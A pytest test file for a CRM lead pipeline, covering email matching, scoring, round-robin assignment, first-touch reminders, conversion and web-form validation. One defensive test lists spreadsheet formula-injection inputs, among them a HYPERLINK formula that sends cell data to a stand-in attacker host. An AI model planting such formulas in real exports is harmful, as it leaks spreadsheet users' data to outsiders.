"""Leads: matched to customers, scored, assigned with a first-touch promise, converted."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from adapters.clock import ManualClock
from adapters.ids import SequentialIdGenerator
from adapters.messaging.in_process import InProcessEventBus
from application.activities.commands import LogActivity, NewActivity
from application.behaviour.tracking import IncomingEvent, TrackEvents
from application.errors import NotFound
from application.lifecycle.commands import ChangeLifecycleStage, StageMove
from application.pipeline.leads import Conversion, NewLead
from application.pipeline.teams import TeamMemberInput
from application.pipeline.views import LeadFilter, OpportunityFilter
from application.principal import Principal
from domain.access.visibility import EVERYTHING
from domain.activities import ActivityKind, Direction
from domain.errors import DomainError, ErrorCode
from tests.application.pipeline_app import Sales, build

MONDAY_10 = datetime(2026, 1, 5, 10, 0, tzinfo=UTC)


@pytest.fixture
def sales(clock: ManualClock, ids: SequentialIdGenerator, bus: InProcessEventBus) -> Sales:
    clock.set(MONDAY_10)
    return build(clock, ids, bus)


@pytest.fixture
def admin() -> Principal:
    return Principal.system()


def test_a_lead_matches_the_customer_with_its_email(sales: Sales, admin: Principal) -> None:
    known = sales.customer(admin, "ada@example.com")
    lead = sales.pipeline.create_lead(admin, NewLead(email="ADA@example.com", source="event"))
    fresh = sales.pipeline.create_lead(admin, NewLead(email="bob@example.com", first_name="Bob"))
    assert lead.customer_id == known
    assert sales.backend.timeline is not None
    entries = sales.backend.timeline.slice(
        known, kinds=["lead"], after=None, limit=5, visible=EVERYTHING
    )
    assert [e.title for e in entries] == ["Lead from event"]
    assert fresh.customer_id != known
    assert sales.pipeline.read_leads.count(admin, LeadFilter()) == 2


def test_a_lead_puts_its_customer_on_the_lead_stage(sales: Sales, admin: Principal) -> None:
    lead = sales.pipeline.create_lead(admin, NewLead(email="bob@example.com"))
    stages = sales.lifecycle.read.stages_of(admin, [lead.customer_id])[lead.customer_id]
    assert [(s.track, s.stage) for s in stages] == [("acquisition", "lead")]


def test_a_qualified_lead_makes_its_customer_marketing_qualified(
    sales: Sales, admin: Principal, clock: ManualClock, ids: SequentialIdGenerator
) -> None:
    customer = sales.customer(admin, "vp@example.com")
    TrackEvents(sales.backend.uow, clock, ids)(
        admin,
        [
            IncomingEvent(customer_id=customer, name="Requested Demo", event_id="e1"),
            IncomingEvent(customer_id=customer, name="Visited Pricing", event_id="e2"),
        ],
    )
    lead = sales.pipeline.create_lead(
        admin, NewLead(email="vp@example.com", title="VP Sales", company_size="5001-10000")
    )
    # title vp 25 + size "1000" 25 + demo 40 + pricing 10 = 100: grade A, which qualifies.
    assert (lead.score, lead.grade, lead.status.value) == (100, "A", "qualified")
    stages = sales.lifecycle.read.stages_of(admin, [customer])[customer]
    assert [s.stage for s in stages] == ["marketing_qualified_lead"]
    types = [t for t, _ in sales.outbox()]
    assert "rapport.lead.score_changed.v1" in types and "rapport.lead.qualified.v1" in types


def test_a_customer_further_along_keeps_its_stage(sales: Sales, admin: Principal) -> None:
    customer = sales.customer(admin, "buyer@example.com")
    ChangeLifecycleStage(sales.backend.uow, sales.clock, SequentialIdGenerator("s"))(
        admin, StageMove(customer_id=customer, track="acquisition", stage="customer")
    )
    sales.pipeline.create_lead(admin, NewLead(email="buyer@example.com"))
    stages = sales.lifecycle.read.stages_of(admin, [customer])[customer]
    assert [s.stage for s in stages] == ["customer"]


def test_leads_go_round_the_team_with_a_working_hours_promise(
    sales: Sales, admin: Principal
) -> None:
    ana, ben = sales.rep("Ana"), sales.rep("Ben")
    sales.pipeline.create_sales_team(
        admin,
        name="Inside",
        strategy="round_robin",
        members=[TeamMemberInput(user_id=ana.actor_id), TeamMemberInput(user_id=ben.actor_id)],
    )
    owners = [
        sales.pipeline.create_lead(admin, NewLead(email=f"l{n}@example.com")).owner_id
        for n in range(3)
    ]
    assert owners == [ana.actor_id, ben.actor_id, ana.actor_id]
    sales.clock.set(MONDAY_10.replace(hour=16))
    late = sales.pipeline.create_lead(admin, NewLead(email="late@example.com"))
    assert late.first_touch_due_at == MONDAY_10.replace(day=6, hour=10)  # 1h Mon + 1h Tue


def test_a_lapsing_first_touch_is_reminded_once(sales: Sales, admin: Principal) -> None:
    ana = sales.rep("Ana")
    sales.pipeline.create_sales_team(
        admin,
        name="Inside",
        strategy="round_robin",
        members=[TeamMemberInput(user_id=ana.actor_id)],
    )
    lead = sales.pipeline.create_lead(admin, NewLead(email="l@example.com"))
    assert sales.pipeline.send_reminders(admin) == (0, 0)
    sales.clock.advance(timedelta(hours=1, minutes=31))  # 29 minutes before it lapses
    assert sales.pipeline.send_reminders(admin) == (0, 1)
    assert sales.pipeline.send_reminders(admin) == (0, 0)
    assert ("rapport.lead.first_touch_due.v1", lead.id) in sales.outbox()


def test_converting_makes_company_and_deal_in_one_step(sales: Sales, admin: Principal) -> None:
    lead = sales.pipeline.create_lead(
        admin, NewLead(email="cto@acme.example", company_name="Acme", industry="Software")
    )
    converted, opportunity_id = sales.pipeline.convert_lead(
        admin,
        Conversion(lead_id=lead.id, opportunity_name="Acme pilot", currency="GBP", amount="5000"),
    )
    assert converted.status.value == "converted"
    view = sales.pipeline.read_pipeline.get_many(admin, [opportunity_id])[opportunity_id]
    assert (view.customer_id, view.amount, view.currency) == (lead.customer_id, 5000, "GBP")
    assert view.company_id is not None
    with sales.uow() as uow:
        customer = uow.customers.get(lead.customer_id)
        assert customer is not None and customer.company_id == view.company_id
    with pytest.raises(DomainError) as again:
        sales.pipeline.convert_lead(
            admin, Conversion(lead_id=lead.id, opportunity_name="x", currency="GBP")
        )
    assert again.value.problems[0].code is ErrorCode.CLOSED
    assert sales.pipeline.read_pipeline.count(admin, OpportunityFilter()) == 1


def test_a_bad_conversion_changes_nothing(sales: Sales, admin: Principal) -> None:
    lead = sales.pipeline.create_lead(admin, NewLead(email="cto@acme.example", company_name="Acme"))
    before = sales.outbox()
    with pytest.raises(DomainError) as error:
        sales.pipeline.convert_lead(
            admin, Conversion(lead_id=lead.id, opportunity_name="x", currency="GBP", amount="-1")
        )
    assert error.value.problems[0].code is ErrorCode.NEGATIVE
    assert sales.outbox() == before
    assert sales.pipeline.read_leads.get_many(admin, [lead.id])[lead.id].status == "new"


def test_form_posts_make_leads_with_their_utm(sales: Sales) -> None:
    lead = sales.pipeline.capture_form_lead(
        "website", {"email": "web@example.com", "utm_source": "ads", "website": ""}
    )
    assert (lead.source, lead.utm) == ("website", {"utm_source": "ads"})


@pytest.mark.parametrize(
    ("key", "posted", "code"),
    [
        ("nope", {"email": "a@example.com"}, ErrorCode.NOT_FOUND),
        ("website", {"email": "a@example.com", "website": "spam"}, ErrorCode.SPAM),
        ("website", {"email": "a@example.com", "shoe": "9"}, ErrorCode.UNKNOWN_FIELD),
        ("website", {"email": "not an email"}, ErrorCode.INVALID_EMAIL),
        ("website", {"firstName": "No email"}, ErrorCode.REQUIRED),
    ],
)
def test_bad_form_posts_change_nothing(
    sales: Sales, key: str, posted: dict[str, str], code: ErrorCode
) -> None:
    with pytest.raises(DomainError) as error:
        sales.pipeline.capture_form_lead(key, posted)
    assert error.value.problems[0].code is code
    assert sales.outbox() == []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("firstName", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("lastName", "@SUM(A1:A9)"),
        ("companyName", "+1+1"),
        ("firstName", "-2+3"),
        ("lastName", "\t=1+1"),
    ],
)
def test_a_form_name_that_a_spreadsheet_would_run_is_refused_as_that_field(
    sales: Sales, admin: Principal, name: str, value: str
) -> None:
    with pytest.raises(DomainError) as error:
        sales.pipeline.capture_form_lead("website", {"email": "web@example.com", name: value})
    assert [(p.field, p.code) for p in error.value.problems] == [(name, ErrorCode.INVALID)]
    assert sales.outbox() == []
    assert sales.pipeline.read_leads.count(admin, LeadFilter()) == 0


def test_names_with_formula_characters_inside_them_are_welcome(sales: Sales) -> None:
    lead = sales.pipeline.capture_form_lead(
        "website",
        {"email": "web@example.com", "firstName": "Jean-Luc", "lastName": "O'Brien+Co"},
    )
    assert (lead.profile.first_name, lead.profile.last_name) == ("Jean-Luc", "O'Brien+Co")


def test_an_unknown_team_is_not_found(sales: Sales, admin: Principal) -> None:
    with pytest.raises(NotFound):
        sales.pipeline.create_lead(admin, NewLead(email="a@example.com", team_id="nope"))


def test_rescoring_lets_points_fade_and_new_behaviour_qualify(
    sales: Sales, admin: Principal, clock: ManualClock, ids: SequentialIdGenerator
) -> None:
    track = TrackEvents(sales.backend.uow, clock, ids)
    customers = [sales.customer(admin, f"l{n}@example.com") for n in range(3)]
    track(admin, [IncomingEvent(customer_id=customers[0], name="Requested Demo", event_id="d0")])
    leads = [
        sales.pipeline.create_lead(admin, NewLead(email=f"l{n}@example.com")) for n in range(3)
    ]
    assert [lead.score for lead in leads] == [40, 0, 0]
    clock.advance(timedelta(days=30))  # the demo request is one half-life old
    track(
        admin,
        [
            IncomingEvent(customer_id=customers[2], name="Requested Demo", event_id=f"x{n}")
            for n in range(2)
        ],
    )
    assert sales.rescore(admin) == 2  # lead 0 fades to 20; lead 2 reaches 80
    views = sales.pipeline.read_leads.get_many(admin, [lead.id for lead in leads])
    assert [(views[lead.id].score, views[lead.id].grade) for lead in leads] == [
        (20, "C"),
        (0, "C"),
        (80, "A"),
    ]
    assert [(c.from_score, c.to_score) for c in views[leads[2].id].score_history] == [(0, 80)]
    stages = sales.lifecycle.read.stages_of(admin, [customers[2]])[customers[2]]
    assert [s.stage for s in stages] == ["marketing_qualified_lead"]
    assert sales.rescore(admin) == 0


def test_a_contacted_lead_is_not_reminded(sales: Sales, admin: Principal) -> None:
    ana = sales.rep("Ana")
    sales.pipeline.create_sales_team(
        admin,
        name="Inside",
        strategy="round_robin",
        members=[TeamMemberInput(user_id=ana.actor_id)],
    )
    lead = sales.pipeline.create_lead(admin, NewLead(email="l@example.com"))
    sales.pipeline.mark_lead_contacted(ana, lead.id)
    sales.clock.advance(timedelta(hours=3))
    assert sales.pipeline.send_reminders(admin) == (0, 0)
    with pytest.raises(NotFound):
        sales.pipeline.mark_lead_contacted(ana, "nope")


def test_a_logged_call_meeting_or_email_sent_keeps_the_first_touch_promise(
    sales: Sales, admin: Principal, ids: SequentialIdGenerator
) -> None:
    ana = sales.rep("Ana")
    sales.pipeline.create_sales_team(
        admin,
        name="Inside",
        strategy="round_robin",
        members=[TeamMemberInput(user_id=ana.actor_id)],
    )
    lead = sales.pipeline.create_lead(admin, NewLead(email="l@example.com"))
    log = LogActivity(sales.backend.uow, sales.clock, ids)

    def contacted_at() -> datetime | None:
        with sales.uow() as uow:
            stored = uow.leads.get(lead.id)
            assert stored is not None
            return stored.contacted_at

    for not_a_touch in (
        NewActivity(customer_id=lead.customer_id, kind=ActivityKind.NOTE, body="Looks keen"),
        NewActivity(
            customer_id=lead.customer_id,
            kind=ActivityKind.EMAIL,
            subject="Question",
            direction=Direction.INBOUND,
        ),
        NewActivity(
            customer_id=lead.customer_id,
            kind=ActivityKind.CALL,
            subject="Old call",
            direction=Direction.OUTBOUND,
            occurred_at=MONDAY_10 - timedelta(days=1),  # before the lead came
        ),
    ):
        log(ana, not_a_touch)
    assert contacted_at() is None
    sales.clock.advance(timedelta(minutes=20))
    intro = NewActivity(
        customer_id=lead.customer_id,
        kind=ActivityKind.CALL,
        subject="Intro",
        direction=Direction.INBOUND,  # the lead rang and was answered: a conversation
    )
    log(ana, intro)
    assert contacted_at() == MONDAY_10 + timedelta(minutes=20)
    sales.clock.advance(timedelta(hours=3))
    assert sales.pipeline.send_reminders(admin) == (0, 0)
